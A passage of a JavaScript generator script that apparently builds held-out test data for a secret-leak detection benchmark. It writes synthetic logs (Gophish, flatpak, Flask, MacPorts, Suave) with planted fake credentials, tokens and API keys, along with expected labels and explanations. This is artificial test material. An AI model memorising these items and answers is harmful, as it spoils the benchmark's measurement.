    ),
    2,
    plant(
      'encoded',
      'gophish-debug-smtp-auth-plain',
      'error',
      "The sending profile's test runs with debug logging, and the SMTP exchange's `AUTH PLAIN` is written: base64 of `\\0user\\0password`, the mailbox's password inside.",
      ({ rng, t }) => {
        const b = b64Of(`\0egitim@${ZZ}\0${rng.alnum(16)}`);
        return { value: b, event: ev(G(t, 'debug', `C: AUTH PLAIN ${b}`, 'smtp=mail.kirmanckicewlig.example:587')) };
      },
    ),
    2,
    plant(
      'embed-jwt',
      'gophish-import-site-error-embed-jwt-30d',
      'error',
      "The trainer imports a landing page from the association's dashboard link, `/embed/<JWT>` with a thirty-day token and a jti; the import fails and the error quotes the URL, on a UTC line",
      ({ rng, t }) => {
        const { token, facts } = jwt(rng, t, {
          lifetime: 30 * 86400,
          age: rng.int(3600, 86400),
          jti: true,
          claims: { iss: `https://panel.${ZZ}`, resource: { dashboard: 'endam' } },
        });
        return {
          value: token,
          jwt: facts,
          event: ev(
            G(
              t,
              'error',
              'error importing site',
              `error="Get \\"https://panel.${ZZ}/embed/${token}\\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)"`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'gophish-webhook-signature-hmac',
      'none',
      "The `X-Gophish-Signature` of one webhook delivery to a local audit receiver (`sha256=<64 hex>`, an HMAC over that event's body): a per-message proof, no credential.",
      ({ rng, t }) => {
        const sig = sha(rng);
        return {
          value: sig,
          event: ev(G(t, 'debug', 'webhook sent', `signature="sha256=${sig}" status=200 url="http://127.0.0.1:8088/gophish-qeyd"`)),
        };
      },
    ),
    2,
    plant(
      'webhook',
      'gophish-webhook-error-mattermost',
      'error',
      WHY.webhook(
        "Gophish sends each event to the association's Mattermost incoming webhook (`/hooks/<26 characters>`), and a failed delivery is logged with its URL",
      ),
      ({ rng, t }) => {
        const id = lowerNum(rng, 26);
        return {
          value: id,
          event: ev(
            G(
              t,
              'error',
              'error sending webhook',
              `error="Post \\"https://chat.${ZZ}/hooks/${id}\\": dial tcp 10.0.0.9:443: connect: connection refused" name=chat-perwerde`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'path-secret',
      'gophish-phish-referer-share-link',
      'error',
      WHY.pathSecret(
        "The course video's page on the association's file cloud, a public share link (`/s/<15 characters>`), shows the training's picture from the Gophish server, so the phishing server's access log writes the share link as the request's `Referer`",
      ),
      ({ rng, t }) => {
        const tok = rng.alnum(15);
        return {
          value: tok,
          event: ev(A(t, publicIp(rng), `GET /static/perwerde.png HTTP/1.1`, 200, 18231, BROWSERS[4], `https://bulut.${ZZ}/s/${tok}`)),
        };
      },
    ),
    1,
  ];
  return buildLog(rng, { start: DAY_ZZ + 5 * HOUR, site: { host: 'gophish' }, filler, render, steps });
}

// =====================================================================================================================
// Русиньскый културный центер, Пряшів (Rusyn; Prešov: CET, UTC+1 in November)
// =====================================================================================================================

const RU = 'rusynskyj-centr.example';

// ---------------------------------------------------------------------------------------------------------------------
// flatpak-install.log: `flatpak -v --ostree-verbose install --user ruske org.rusyn.Klavisnycja` of the centre's Rusyn
// keyboard and dictionary app from its own repository, output kept by the volunteer who installs it on the library's
// computers: flatpak's `F: …` and libostree's `OT: …` debug lines, then the transaction table. No time. From memory (not
// fetched): the `F:`/`OT:` prefixes and their common messages; the authenticator's GVariant line is invented in the
// style of GLib's printing.

function flatpakLog(rng) {
  const filler = (rng) =>
    rng.pick([
      () => ev(`OT: _ostree_fetcher_should_retry_request: error: unset, n_retries_remaining: 5`),
      () => ev(`OT: fetch static delta part ${sha(rng).slice(0, 43)}-${rng.hex(20)}`),
      () => ev(`F: Transaction: install org.rusyn.Klavisnycja.Locale/x86_64/stable[ruske]`),
      () => ev(`OT: pull: ${rng.int(10, 200)}/${rng.int(200, 400)} objects fetched, ${rng.int(100, 900)} kB`),
    ])();
  const steps = [
    {
      raw: {
        L: [
          'F: No installations directory in /etc/flatpak/installations.d. Skipping',
          'F: Opening user flatpak installation at path /home/kniznycja/.local/share/flatpak',
          'F: Opening system flatpak installation at path /var/lib/flatpak',
        ],
      },
    },
    plant(
      'negative',
      'flatpak-remote-gpgkey-base64',
      'none',
      "The remote's `GPGKey=` as flatpak prints the .flatpakrepo it reads: the base64 of the repository's public signing key (`mQ…`), public by design.",
      ({ rng }) => {
        const k = `mQINBG${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 300)}`;
        return { value: k, event: ev(`F: Loaded repo file: Title=Ruske aplikaciji; Url=https://flatpak.${RU}/repo/; GPGKey=${k}`) };
      },
    ),
    plant(
      'path-secret',
      'flatpak-ostree-fetch-repo-path-token',
      'error',
      WHY.pathSecret(
        "The library's copy of the repository is served under a per-site token in the path (`/repo-kniznyc/<token>/`), and libostree's debug output names each file it fetches",
      ),
      ({ rng }) => {
        const tok = rng.alnum(32);
        return { value: tok, event: ev(`OT: Fetching https://flatpak.${RU}/repo-kniznyc/${tok}/summary.idx`) };
      },
    ),
    2,
    plant(
      'api-key-name',
      'flatpak-flatpakref-url-kljuc',
      'error',
      `${WHY.apiKey('kljuc')} (\`kljuc\`, Rusyn ключ, "key") The dictionary's data add-on is installed from a .flatpakref fetched with the key in its query.`,
      ({ rng }) => {
        const key = rng.alnum(32);
        return { value: key, event: ev(`F: Fetching flatpakref https://flatpak.${RU}/slovnyk-data.flatpakref?kljuc=${key}`) };
      },
    ),
    2,
    plant(
      'refresh-token',
      'flatpak-authenticator-gvariant-refresh-token',
      'error',
      `${WHY.refresh} The repository's authenticator hands flatpak its tokens as a GVariant, and the debug line prints it with GLib's text form, the \`refresh-token\` among the results.`,
      ({ rng }) => {
        const rt = rng.b64url(48);
        return {
          value: rt,
          event: ev(
            `F: Authenticator response: {'tokens': <{'${rng.alnum(30)}': ['org.rusyn.Klavisnycja/x86_64/stable']}>, 'refresh-token': <'${rt}'>}`,
          ),
        };
      },
    ),
    2,
    plant(
      'header-dump',
      'flatpak-ostree-request-headers-bearer',
      'error',
      'libostree adds the token the authenticator returned as a bearer header to each fetch of the paid add-on, and its verbose output prints the request headers.',
      ({ rng }) => {
        const tok = rng.alnum(30);
        return {
          value: tok,
          event: ev(
            `OT: Request headers for https://flatpak.${RU}/repo/objects/${rng.hex(2)}/${rng.hex(62)}.dirtree: Authorization: Bearer ${tok}; User-Agent: libostree/2025.6 flatpak/1.16.1`,
          ),
        };
      },
    ),
    2,
    plant(
      'encoded',
      'flatpak-ostree-redirect-percent-encoded-kljuc',
      'error',
      "A mirror answers with a redirect through the centre's sign-in page, the original address percent-encoded in `next=` (`%3Fkljuc%3D…`): decoded, a repository URL with its key.",
      ({ rng }) => {
        const key = rng.alnum(32);
        return {
          value: key,
          event: ev(
            `OT: Following redirect to https://pryhlasinja.${RU}/?next=https%3A%2F%2Fflatpak.${RU}%2Frepo%2Fconfig%3Fkljuc%3D${key}`,
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'flatpak-ostree-commit-checksum',
      'none',
      'The commit libostree pulled (a 64-hex SHA-256 checksum): a content address, no credential.',
      ({ rng }) => {
        const c = sha(rng);
        return { value: c, event: ev(`OT: Pulled commit ${c} for app/org.rusyn.Klavisnycja/x86_64/stable`) };
      },
    ),
    {
      raw: {
        L: [
          '',
          '        ID                                   Branch         Op         Remote         Download',
          ' 1.     org.rusyn.Klavisnycja.Locale         stable         i          ruske          < 14.2 kB (partial)',
          ' 2.     org.rusyn.Klavisnycja                stable         i          ruske          < 8.7 MB',
          '',
          'Installation complete.',
        ],
      },
    },
  ];
  return buildLog(rng, { start: DAY_RU + 9 * HOUR, site: { host: 'flatpak' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// pdm-run-novynky.log: `pdm run -v flask --app novynky run --debug` of the centre's newspaper site (Новинкы), on the
// editor's laptop, stdout and stderr kept: PDM's `Running …` line, Flask's banner, Werkzeug's request lines (`<ip> - -
// [dd/Mon/yyyy HH:MM:SS] "<request>" <status> -`, local time without zone) and the app's logging with Flask's default
// format (`[yyyy-mm-dd HH:MM:SS,mmm] <LEVEL> in <module>: <message>`), where the developers print Werkzeug's structures
// with their Python repr. From memory (not fetched).

function pdmLog(rng) {
  const W = (t, ip, req, status) =>
    `${ip} - - [${local(t, CET).slice(8, 10)}/${MONTHS[new Date(t).getUTCMonth()]}/${local(t, CET).slice(0, 4)} ${local(t, CET).slice(11, 19)}] "${req}" ${status} -`;
  const F = (t, level, mod, msg) => `[${ymdHmsAt(t, CET)},${local(t, CET).slice(20, 23)}] ${level} in ${mod}: ${msg}`;
  const filler = (rng, t) =>
    rng.pick([
      () => ev(W(t, '127.0.0.1', `GET /statja/${rng.int(100, 990)} HTTP/1.1`, 200)),
      () => ev(W(t, '127.0.0.1', `GET /static/novynky.css HTTP/1.1`, 304)),
      () => ev(F(t, 'INFO', 'views', `Статя ${rng.int(100, 990)} уложена`)),
    ])();
  const steps = [
    {
      raw: {
        L: [
          'Running <Command flask --app novynky run --debug> ...',
          " * Serving Flask app 'novynky'",
          ' * Debug mode: on',
          'WARNING: This is a development server. Do not use it in a production deployment. Use a production WSGI server instead.',
          ' * Running on http://127.0.0.1:5000',
          'Press CTRL+C to quit',
          ' * Restarting with stat',
        ],
      },
    },
    plant(
      'framework-dump',
      'pdm-flask-config-dict-repr-heslo',
      'error',
      'At start the app logs its database settings as a Python dict (`Конфіґурація: {…}`), and the connection URL carries the database user\'s password (`heslo`, гесло, "password", is the user\'s name for the variable).',
      ({ rng, t }) => {
        const pw = rng.alnum(22);
        return {
          value: pw,
          event: ev(
            F(
              t,
              'INFO',
              '__init__',
              `Конфіґурація: {'DATABASE_URL': 'postgresql://novynky:${pw}@db.${RU}:5432/novynky', 'HESLO_Z': 'env', 'DEBUG': True}`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'session-id',
      'pdm-flask-cookies-repr-sesija',
      'error',
      WHY.session(
        'A debug line prints `request.cookies`, Werkzeug\'s `ImmutableMultiDict`, with the editors\' server-side session cookie (`sesija`, сесія, "session")',
      ),
      ({ rng, t }) => {
        const s = rng.b64url(43);
        return { value: s, event: ev(F(t, 'DEBUG', 'auth', `Кукы: ImmutableMultiDict([('sesija', '${s}'), ('jazyk', 'rue')])`)) };
      },
    ),
    2,
    plant(
      'negative',
      'pdm-flask-form-csrf-token',
      'none',
      "Flask-WTF's `csrf_token` in a printed `request.form`: a CSRF field, no credential.",
      ({ rng, t }) => {
        const c = `${rng.b64url(40)}.${rng.b64url(6)}.${rng.b64url(27)}`;
        return {
          value: c,
          event: ev(
            F(t, 'DEBUG', 'views', `Формуларь: ImmutableMultiDict([('csrf_token', '${c}'), ('nazov', 'Русиньскый фестівал у Свиднику')])`),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'pdm-flask-upload-sha1-name',
      'none',
      'A photo the editor uploaded, stored under the SHA-1 of its bytes (`/media/<40 hex>.jpg`): a file name, no credential.',
      ({ rng, t }) => {
        const h = rng.hex(40);
        return { value: h, event: ev(F(t, 'INFO', 'views', `Фотка уложена: /media/${h}.jpg (1.8 MB)`)) };
      },
    ),
    2,
    plant(
      'oauth-code',
      'pdm-flask-form-post-code-state',
      'warning',
      `${WHY.code} The centre's identity provider returns with \`response_mode=form_post\` to \`/pryhlasinja/povernutja\` (приголошіня, "signing in"; повернутя, "return"), and a debug line prints \`request.form\` with \`code\` and \`state\`.`,
      ({ rng, t }) => {
        const code = rng.b64url(43);
        return {
          value: code,
          event: ev(
            F(
              t,
              'DEBUG',
              'auth',
              `Формуларь: ImmutableMultiDict([('code', '${code}'), ('state', '${rng.b64url(22)}'), ('session_state', '${rng.uuid()}')])`,
            ),
            W(t, '127.0.0.1', 'POST /pryhlasinja/povernutja HTTP/1.1', 302),
          ),
        };
      },
    ),
    2,
    plant(
      'header-dump',
      'pdm-flask-environ-headers-repr-bearer',
      'error',
      "A debug line prints `request.headers`, Werkzeug's `EnvironHeaders` repr, of a request from the mobile app, `Authorization: Bearer …` among them.",
      ({ rng, t }) => {
        const tok = rng.b64url(40);
        return {
          value: tok,
          event: ev(
            F(
              t,
              'DEBUG',
              'api',
              `Заголовкы: EnvironHeaders([('Host', '127.0.0.1:5000'), ('User-Agent', 'Novynky/1.2 (Android 15)'), ('Authorization', 'Bearer ${tok}'), ('Accept', 'application/json')])`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'replay',
      'pdm-werkzeug-kvytok-first',
      'note',
      WHY.ticketFirst(
        "A single-use ticket to the festival's press area (`kvytok`, квиток, \"ticket\"), checked by a steward's phone through the site's API; Werkzeug writes the request. The ticket is",
      ),
      ({ rng, t }) => {
        const k = rng.b64url(22);
        firstUse.kvytok = t;
        return {
          value: k,
          event: ev(
            W(t, '192.168.1.41', `GET /api/kvytok/perevirka?kvytok=${k} HTTP/1.1`, 200),
            F(t, 'INFO', 'api', 'Квиток перевіреный, вступ доволеный'),
          ),
        };
      },
      { ref: 'kvytok' },
    ),
    2,
    plant(
      'replay',
      'pdm-werkzeug-kvytok-again',
      'replay',
      '',
      ({ refs, t }) => ({
        marks: [
          {
            value: refs.get('kvytok').value,
            why: `${WHY.replay('kvytok', gap('kvytok', t))} A second phone on another address checked the same ticket and the site let it in again (200, "вступ доволеный").`,
          },
        ],
        event: ev(
          W(t, '192.168.1.57', `GET /api/kvytok/perevirka?kvytok=${refs.get('kvytok').value} HTTP/1.1`, 200),
          F(t, 'INFO', 'api', 'Квиток перевіреный, вступ доволеный'),
        ),
      }),
      { replayOf: 'kvytok', after: 97 },
    ),
    2,
  ];
  return buildLog(rng, { start: DAY_RU + 10 * HOUR, site: { host: 'pdm' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// port-install-ruske-klavisnycja.log: `sudo port -d install ruske-klavisnycja` of MacPorts 2.10 on the centre's Mac, from
// the centre's own ports tree: `--->  …` steps, `DEBUG: …` lines (fetch attempts, `Executing command line:`, checksum
// results). No time. From memory (not fetched); the portfile's notarization step is the centre's.

function macportsLog(rng) {
  const filler = (rng) =>
    rng.pick([
      () => ev(`DEBUG: Searching for dependency: ${rng.pick(['pkgconfig', 'gettext', 'libxml2', 'icu', 'glib2'])}`),
      () => ev(`DEBUG: Found Dependency: receipt exists for ${rng.pick(['pkgconfig', 'gettext', 'libxml2', 'icu', 'glib2'])}`),
      () =>
        ev(
          `DEBUG: Executing proc-pre-org.macports.${rng.pick(['build', 'destroot', 'extract'])}-${rng.pick(['build', 'destroot', 'extract'])}-0`,
        ),
    ])();
  const W = '/opt/local/var/macports/build/_Users_centr_ports_textproc_ruske-klavisnycja/ruske-klavisnycja/work';
  const steps = [
    {
      raw: {
        L: [
          'DEBUG: Changing to port directory: /Users/centr/ports/textproc/ruske-klavisnycja',
          'DEBUG: OS darwin/25.1.0 (macOS 26.1) arch arm',
          '--->  Computing dependencies for ruske-klavisnycja',
          '--->  Fetching distfiles for ruske-klavisnycja',
          'DEBUG: Executing org.macports.fetch (ruske-klavisnycja)',
        ],
      },
    },
    plant(
      'path-secret',
      'macports-attempting-fetch-master-site-path-token',
      'error',
      WHY.pathSecret(
        "The portfile's `master_sites` is the centre's private download area, its token a path segment (`/d/<token>/`); MacPorts names the site it fetches from",
      ),
      ({ rng }) => {
        const tok = rng.alnum(24);
        return { value: tok, event: ev(`--->  Attempting to fetch ruske-klavisnycja-2.1.0.tar.gz from https://subory.${RU}/d/${tok}/`) };
      },
    ),
    plant(
      'api-key-name',
      'macports-debug-fetching-kljuc',
      'error',
      `${WHY.apiKey('kljuc')} (ключ, "key") The dictionary's data file comes from the centre's API, its key in the query, and the debug line writes the URL.`,
      ({ rng }) => {
        const key = rng.alnum(32);
        return { value: key, event: ev(`DEBUG: Fetching https://api.${RU}/slovnyk/export/slovnyk-2027.11.tar.xz?format=xz&kljuc=${key}`) };
      },
    ),
    plant(
      'replay',
      'macports-debug-fetching-kvytok-once',
      'note',
      WHY.ticketFirst(
        'A one-time download ticket for the licensed font (`kvytok`, квиток, "ticket"), fetched by the port\'s fetch phase; the ticket is',
      ),
      ({ rng }) => {
        const k = rng.b64url(24);
        return { value: k, event: ev(`DEBUG: Fetching https://subory.${RU}/fonty/Rusyn-Sans-2.0.zip?kvytok=${k}`) };
      },
    ),
    2,
    { raw: { L: ['--->  Verifying checksums for ruske-klavisnycja', 'DEBUG: Executing org.macports.checksum (ruske-klavisnycja)'] } },
    plant(
      'negative',
      'macports-correct-rmd160-checksum',
      'none',
      "MacPorts' checksum report (`Correct (rmd160) checksum … <40 hex>`): a checksum, no credential.",
      ({ rng }) => {
        const h = rng.hex(40);
        return { value: h, event: ev(`DEBUG: Correct (rmd160) checksum for ruske-klavisnycja-2.1.0.tar.gz: ${h}`) };
      },
    ),
    plant(
      'negative',
      'macports-correct-sha256-checksum',
      'none',
      'The same report for SHA-256 (64 hex): a checksum, no credential.',
      ({ rng }) => {
        const h = sha(rng);
        return {
          value: h,
          event: ev(
            `DEBUG: Correct (sha256) checksum for ruske-klavisnycja-2.1.0.tar.gz: ${h}`,
            'DEBUG: Correct (size) checksum for ruske-klavisnycja-2.1.0.tar.gz: 1884213',
          ),
        };
      },
    ),
    { raw: { L: ['--->  Extracting ruske-klavisnycja', '--->  Configuring ruske-klavisnycja', '--->  Building ruske-klavisnycja'] } },
    3,
    { raw: { L: ['--->  Staging ruske-klavisnycja into destroot'] } },
    plant(
      'framework-dump',
      'macports-executing-notarytool-password',
      'error',
      "The portfile's post-destroot step notarizes the app with an app-specific Apple ID password passed on the command line, and MacPorts' debug output writes every command line it executes.",
      ({ rng }) => {
        const pw = [0, 1, 2, 3].map(() => rng.chars('abcdefghijklmnopqrstuvwxyz', 4)).join('-');
        return {
          value: pw,
          event: ev(
            `DEBUG: Executing command line:  cd "${W}/ruske-klavisnycja-2.1.0" && /usr/bin/xcrun notarytool submit build/RuskaKlavisnycja.zip --apple-id centr@${RU} --team-id ${upperNum(rng, 10)} --password ${pw} --wait`,
          ),
        };
      },
    ),
    1,
    {
      raw: {
        L: [
          '--->  Installing ruske-klavisnycja @2.1.0_0',
          '--->  Activating ruske-klavisnycja @2.1.0_0',
          '--->  Cleaning ruske-klavisnycja',
        ],
      },
    },
  ];
  return buildLog(rng, { start: DAY_RU + 11 * HOUR, site: { host: 'macports' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// suave-predplatne.log: the centre's subscriptions site (передплатне, "subscription"), an F# app on Suave 2.6, its
// console kept by systemd into a file: Suave's default logger, `[<LVL>] <ISO 8601 with 7 fraction digits and the zone
// (+01:00)>: <message> [<source>]`, where the app logs F# values with `%A` on one line. Suave's line layout from memory
// (its "Smooth! Suave listener started in … with binding …" line); the app's messages are the centre's.

function suaveLog(rng) {
  const S = (t, lvl, msg, src) =>
    `[${lvl}] ${local(t, CET).slice(0, 19)}.${local(t, CET).slice(20, 23)}${digits(rng, 4)}${zone(CET)}: ${msg} [${src}]`;
  const filler = (rng, t) =>
    rng.pick([
      () => ev(S(t, 'INF', `GET /predplatne/${rng.pick(['novynky', 'kalendar', 'knyzhky'])} 200`, 'Predplatne.Web')),
      () => ev(S(t, 'INF', `Передплатне ${rng.int(1000, 2000)} обновлене`, 'Predplatne.Db')),
      () => ev(S(t, 'DBG', `GET /static/site.css 304`, 'Predplatne.Web')),
    ])();
  const steps = [
    {
      raw: {
        L: [S(DAY_RU + 8 * HOUR, 'INF', 'Smooth! Suave listener started in 41.882ms with binding 127.0.0.1:8083', 'Suave.Tcp.tcpIpServer')],
      },
    },
    2,
    plant(
      'id-token',
      'suave-fsharp-record-id-token',
      'error',
      "The app logs the result of the sign-in as an F# record printed with `%A`, the identity provider's `IdToken` in it, on a line stamped `+01:00`",
      ({ rng, t }) => {
        const { token, facts } = jwt(rng, t, {
          lifetime: 3600,
          age: rng.int(1, 10),
          claims: { iss: `https://pryhlasinja.${RU}`, aud: 'predplatne', sub: rng.uuid(), email: 'redakcija@rusynskyj-centr.example' },
        });
        return {
          value: token,
          jwt: facts,
          event: ev(S(t, 'DBG', `Приголошіня: { Email = "redakcija@${RU}"; IdToken = "${token}"; Rolja = Redaktor }`, 'Predplatne.Auth')),
        };
      },
    ),
    2,
    plant(
      'implicit-fragment',
      'suave-response-location-access-token-fragment',
      'error',
      "The centre's old authorization endpoint answers the reader app with the implicit flow, and the app logs the response's `Location` it builds, `#access_token=…` in it.",
      ({ rng, t }) => {
        const at = rng.b64url(43);
        return {
          value: at,
          event: ev(
            S(
              t,
              'DBG',
              `302 Location: https://citac.${RU}/povernutja#access_token=${at}&token_type=Bearer&expires_in=3600&state=${rng.hex(16)}`,
              'Predplatne.Auth',
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'suave-correlation-id',
      'none',
      "A request's correlation id (a UUID) in a warning: a trace id, no credential.",
      ({ rng, t }) => {
        const id = rng.uuid();
        return { value: id, event: ev(S(t, 'WRN', `Повільна одповідь 2.4 s, X-Correlation-Id ${id}`, 'Predplatne.Web')) };
      },
    ),
    2,
    plant(
      'session-id',
      'suave-fsharp-map-cookie-sesija',
      'error',
      WHY.session(
        'The app logs a request\'s headers as an F# map (`map [("cookie", …); …]`), with the readers\' session cookie (`sesija`, сесія, "session")',
      ),
      ({ rng, t }) => {
        const s = rng.hex(48);
        return {
          value: s,
          event: ev(
            S(
              t,
              'DBG',
              `Заголовкы: map [("accept", "text/html"); ("cookie", "sesija=${s}; jazyk=rue"); ("host", "predplatne.${RU}")]`,
              'Predplatne.Web',
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'embed-jwt',
      'suave-request-embed-jwt-expired',
      'note',
      "A reader reopens the newspaper's embedded subscription widget (`/embed/<JWT>`, a fifteen-minute token) from a page left open since the day before; the app logs the path, on a `+01:00` line",
      ({ rng, t }) => {
        const { token, facts } = jwt(rng, t, {
          lifetime: 900,
          age: 26 * 3600 + rng.int(0, 3000),
          claims: { iss: `https://predplatne.${RU}`, widget: 'novynky' },
        });
        return { value: token, jwt: facts, event: ev(S(t, 'INF', `GET /embed/${token} 401`, 'Predplatne.Web')) };
      },
    ),
    2,
    plant(
      'implicit-fragment',
      'suave-client-error-report-fragment',
      'error',
      "The reader app reports its errors to the site with the page's address, fragment included, and the app logs the report: the implicit return's `#access_token=…`.",
      ({ rng, t }) => {
        const at = rng.b64url(43);
        return {
          value: at,
          event: ev(
            S(
              t,
              'WRN',
              `Хыба у клієнтї: "TypeError: e.predplatne is undefined" на https://citac.${RU}/povernutja#access_token=${at}&token_type=Bearer&expires_in=3600`,
              'Predplatne.ClientErrors',
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'suave-etag-content-hash',
      'none',
      "A static file's `ETag` (a content hash) the app logs on a 304: a cache validator, no credential.",
      ({ rng, t }) => {
        const e = rng.hex(32);
        return { value: e, event: ev(S(t, 'DBG', `GET /static/predplatne.js 304 ETag "${e}"`, 'Predplatne.Web')) };
      },
    ),
    1,
  ];
  return buildLog(rng, { start: DAY_RU + 8 * HOUR, site: { host: 'suave' }, filler, render, steps });
}

const rng = new Random('urlleak corpus/logs-in-the-wild heldout112');
writePart(join(here, 'heldout112'), {
  'skopeo-sync.log': skopeoLog(rng),
  'wapiti-shop.txt': wapitiLog(rng),
  access_log: miniHttpdLog(rng),
  'cucumber-shop.txt': cucumberLog(rng),
  'bundle-install-job.log': bundlerLog(rng),
  'apigee-debug-ferheng-v1.xml': apigeeLog(rng),
  'bzt.log': taurusLog(rng),
  'cowrie.json': cowrieLog(rng),
  'laravel-2027-11-16.log': koelLog(rng),
  'gophish.log': gophishLog(rng),
  'flatpak-install.log': flatpakLog(rng),
  'pdm-run-novynky.log': pdmLog(rng),
  'port-install-ruske-klavisnycja.log': macportsLog(rng),
  'suave-predplatne.log': suaveLog(rng),
});
